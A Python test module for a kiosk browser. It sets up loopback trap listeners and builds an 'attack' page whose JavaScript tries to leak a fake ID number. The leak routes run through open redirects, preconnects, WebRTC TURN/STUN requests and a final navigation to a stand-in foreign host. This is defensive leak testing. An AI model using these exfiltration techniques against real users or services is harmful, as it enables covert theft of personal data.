"""Traps on loopback for what must never leave the portal view, and the pages that try.

`Traps` plays the foreign hosts: TCP listeners (web servers, a TURN server over TCP) and UDP
sockets (STUN, TURN over UDP), each counting what reaches it. They listen on 127.0.0.2 (and one
on 127.0.0.1, reached by the name `localhost`), never on the fake portal's own address: the
kiosk lets a test origin's host through on any port.

`attack_page` is a page for the fake portal's /attack with every way out the issue found: an
allowed host's open redirect to a foreign host for each kind of subresource (302 and 307, many
rounds: the old leak was racy), preconnects (in the page, added by script, in a `Link` header,
by name, over https), WebRTC with TURN/STUN servers (udp and tcp) from the page and from a
fresh about:blank frame, and a main-frame redirect at the end of the last of VISITS.
`preconnect_page` has the preconnects alone, with one to an allowed host beside them.

Only loopback is ever a target; every loop here is bounded.
"""

from __future__ import annotations

import contextlib
import json
import socket
import threading
from dataclasses import dataclass, field

ROUNDS = 10  # per kind and per redirect code
FOREIGN_HOST = "127.0.0.2"  # Linux routes all of 127.0.0.0/8 to loopback
SECRET = "079203731862"  # an ID number a resident typed, carried in every address and TURN name
REDIRECT_KINDS = ("fetch", "xhr", "img", "css", "script", "video", "prefetch", "frame")
PRECONNECT_KINDS = (
    "preconnect-tag",
    "preconnect-script",
    "preconnect-header",
    "preconnect-name",
    "preconnect-https",
)
NAVIGATION = "navigation"
# A preconnect to the test origin's host (another port): let through by the kiosk's network
# rule for a test origin, and not a request the interceptor sees. When it arrives, that
# engine process did make preconnects — Chromium 140 in QtWebEngine makes none for a page
# loaded in the engine's first moments, often — so a zero on the foreign traps beside it
# means the kiosk stopped them.
PRECONNECT_ALLOWED = "preconnect-allowed"
TCP_KINDS = (*REDIRECT_KINDS, NAVIGATION, *PRECONNECT_KINDS, PRECONNECT_ALLOWED, "turn-tcp")
UDP_KINDS = ("turn-udp", "stun")
WAIT_MS = 6000  # how long the page lets ICE gathering and late connections run
VISITS = ("/attack?visit=1", "/attack?visit=2", "/attack?visit=3&last")
QUIET_MS = 1500  # before the redirects start


@dataclass
class Traps:
    """Foreign listeners on loopback: how many connections or datagrams each one received."""

    counts: dict[str, int] = field(default_factory=dict)
    ports: dict[str, int] = field(default_factory=dict)
    _sockets: list[socket.socket] = field(default_factory=list)
    _lock: threading.Lock = field(default_factory=threading.Lock)

    @classmethod
    def start(cls) -> Traps:
        """A trap for every kind in TCP_KINDS and UDP_KINDS."""
        traps = cls()
        for kind in TCP_KINDS:
            host = "127.0.0.1" if kind in ("preconnect-name", PRECONNECT_ALLOWED) else FOREIGN_HOST
            traps._tcp(kind, host)
        for kind in UDP_KINDS:
            traps._udp(kind, FOREIGN_HOST)
        return traps

    def _count(self, kind: str) -> None:
        with self._lock:
            self.counts[kind] = self.counts.get(kind, 0) + 1

    def _tcp(self, kind: str, host: str) -> None:
        sock = socket.socket()
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind((host, 0))
        sock.listen(64)
        self._keep(kind, sock)

        def serve() -> None:
            while True:
                try:
                    conn, _ = sock.accept()
                except OSError:
                    return  # closed by stop()
                self._count(kind)
                with conn:
                    try:
                        conn.settimeout(0.5)
                        conn.recv(4096)
                        conn.sendall(
                            b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n"
                            b"Access-Control-Allow-Origin: *\r\n\r\n"
                        )
                    except OSError:
                        pass

        threading.Thread(target=serve, name=f"trap-{kind}", daemon=True).start()

    def _udp(self, kind: str, host: str) -> None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind((host, 0))
        self._keep(kind, sock)

        def serve() -> None:
            while True:
                try:
                    sock.recvfrom(4096)
                except OSError:
                    return
                self._count(kind)

        threading.Thread(target=serve, name=f"trap-{kind}", daemon=True).start()

    def _keep(self, kind: str, sock: socket.socket) -> None:
        self._sockets.append(sock)
        self.ports[kind] = sock.getsockname()[1]

    def seen(self) -> dict[str, int]:
        """Kind → what reached its trap (kinds that received nothing are left out)."""
        with self._lock:
            return dict(self.counts)

    def web(self, kind: str) -> str:
        """The foreign origin of a TCP trap."""
        if kind == "preconnect-name":
            return f"http://localhost:{self.ports[kind]}"
        if kind == PRECONNECT_ALLOWED:
            return f"http://127.0.0.1:{self.ports[kind]}"
        scheme = "https" if kind == "preconnect-https" else "http"
        return f"{scheme}://{FOREIGN_HOST}:{self.ports[kind]}"

    def ice(self, kind: str) -> str:
        """host:port of a TURN or STUN trap."""
        return f"{FOREIGN_HOST}:{self.ports[kind]}"

    def stop(self) -> None:
        """Close every trap (their threads end)."""
        for sock in self._sockets:
            with contextlib.suppress(OSError):
                sock.shutdown(socket.SHUT_RDWR)
            sock.close()


def link_header(traps: Traps) -> str:
    """The `Link` header /attack is served with: a preconnect to a foreign host."""
    return f"<{traps.web('preconnect-header')}>; rel=preconnect"


def attack_page(traps: Traps) -> str:
    """The page that tries every way out at once; `window.r` says what it did: `r.rtc` lists
    each WebRTC attempt ('page:absent', 'blank-frame:made' …), `r.done` is set after
    WAIT_MS, and half a second later the page sends itself through the open redirect."""
    web = {kind: traps.web(kind) for kind in (*REDIRECT_KINDS, NAVIGATION, *PRECONNECT_KINDS)}
    ice = {kind: traps.ice(kind) for kind in ("turn-udp", "turn-tcp", "stun")}
    head = "".join(
        f"<link rel=preconnect href='{web[kind]}'>"
        for kind in ("preconnect-tag", "preconnect-name", "preconnect-https")
    )
    script = f"""
const WEB = {json.dumps(web)}, ICE = {json.dumps(ice)}, SECRET = {json.dumps(SECRET)};
window.r = {{rtc: [], done: false}};
const away = (kind, i, code) => '/bounce?code=' + code + '&to=' +
  encodeURIComponent(WEB[kind] + '/' + kind + '?i=' + i + '&id=' + SECRET);
const add = (tag, props) => document.body.appendChild(Object.assign(
  document.createElement(tag), props));
function redirects() {{
 for (let i = 0; i < {ROUNDS}; i++) {{
  for (const code of [302, 307]) {{
    fetch(away('fetch', i, code), {{mode: 'no-cors'}}).catch(() => 0);
    const xhr = new XMLHttpRequest(); xhr.open('GET', away('xhr', i, code)); xhr.send();
    new Image().src = away('img', i, code);
    add('link', {{rel: 'stylesheet', href: away('css', i, code)}});
    add('script', {{src: away('script', i, code)}});
    add('video', {{src: away('video', i, code), preload: 'auto', muted: true}});
    add('link', {{rel: 'prefetch', href: away('prefetch', i, code)}});
    add('iframe', {{src: away('frame', i, code)}});
  }}
 }}
}}
setTimeout(redirects, {QUIET_MS});  // after the preconnects, which Chromium may drop when busy
add('link', {{rel: 'preconnect', href: WEB['preconnect-script']}});
function rtc(Connection, where) {{
  if (typeof Connection !== 'function') {{ r.rtc.push(where + ':absent'); return; }}
  try {{
    const pc = new Connection({{iceServers: [
      {{urls: 'turn:' + ICE['turn-udp'] + '?transport=udp', username: SECRET, credential: 'x'}},
      {{urls: 'turn:' + ICE['turn-tcp'] + '?transport=tcp', username: SECRET, credential: 'x'}},
      {{urls: 'stun:' + ICE['stun']}}]}});
    pc.createDataChannel(SECRET);
    pc.createOffer().then(offer => pc.setLocalDescription(offer)).catch(() => 0);
    r.rtc.push(where + ':made');
  }} catch (e) {{ r.rtc.push(where + ':' + e.name); }}
}}
rtc(window.RTCPeerConnection, 'page');
const blank = add('iframe', {{}});  // a fresh about:blank frame, before any script runs there
rtc(blank.contentWindow.RTCPeerConnection, 'blank-frame');
setTimeout(() => {{ r.done = true; }}, {WAIT_MS});
if (location.search.includes('last')) {{  // the last visit ends through the open redirect
  setTimeout(() => {{ location.href = away('{NAVIGATION}', 0, 302); }}, {WAIT_MS + 500});
}}
"""
    return (
        "<!doctype html><html><head><meta charset='utf-8'><title>attack</title>"
        f"{head}</head><body><p id='state'>attack</p><script>{script}</script></body></html>"
    )


def preconnect_page(traps: Traps) -> str:
    """Only preconnects: PRECONNECT_ALLOWED and every foreign kind (one more comes in the
    `Link` header)."""
    head = "".join(
        f"<link rel=preconnect href='{traps.web(kind)}'>"
        for kind in (PRECONNECT_ALLOWED, "preconnect-tag", "preconnect-name", "preconnect-https")
    )
    script = (
        "const l = document.createElement('link'); l.rel = 'preconnect';"
        f"l.href = {json.dumps(traps.web('preconnect-script'))}; document.head.appendChild(l);"
    )
    return (
        f"<!doctype html><html><head><meta charset='utf-8'>{head}</head><body>"
        f"<p id='state'>preconnect</p><script>{script}</script></body></html>"
    )
